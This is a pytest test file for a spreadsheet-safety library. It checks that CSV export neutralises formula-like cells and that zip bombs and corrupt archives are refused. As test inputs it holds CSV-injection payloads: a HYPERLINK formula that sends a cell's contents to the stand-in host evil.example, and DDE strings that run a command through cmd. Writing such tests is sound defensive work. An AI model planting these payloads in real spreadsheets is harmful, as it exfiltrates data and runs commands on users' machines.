import io
import zipfile

import pytest

from lib.archives import UnsafeArchive, check_zip_expansion
from lib.spreadsheet_safety import neutralise


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1"])
def test_a_formula_like_cell_leaves_as_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12,5", "+3", "-1.234.567,89", "-5%", "Dinas Kesehatan", "", 42, None])
def test_numbers_and_plain_text_leave_unchanged(cell):
    assert neutralise(cell) == cell


def zipped(name: str, size: int) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"\0" * size)
    buffer.seek(0)
    return buffer


def test_a_zip_bomb_is_refused_from_its_directory():
    bomb = zipped("xl/worksheets/sheet1.xml", 50 * 1024 * 1024)
    assert len(bomb.getvalue()) < 100 * 1024
    with pytest.raises(UnsafeArchive, match="zip bomb|terlalu besar"):
        check_zip_expansion(bomb, max_total=200 * 1024 * 1024)
    with pytest.raises(UnsafeArchive, match="terlalu besar"):
        check_zip_expansion(zipped("a.xml", 3 * 1024 * 1024), max_total=1024 * 1024)


def test_an_ordinary_archive_passes_and_garbage_is_refused():
    check_zip_expansion(zipped("a.xml", 1000), max_total=1024 * 1024)
    with pytest.raises(UnsafeArchive, match="rusak"):
        check_zip_expansion(io.BytesIO(b"bukan zip"), max_total=1024)


def test_a_csv_download_neutralises_a_title_that_is_a_formula():
    from lib.csv_export import csv_response

    response, writer = csv_response("x.csv")
    writer.writerow(['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "-12,5"])
    import csv
    import io

    cells = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert cells == ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")", "-12,5"]
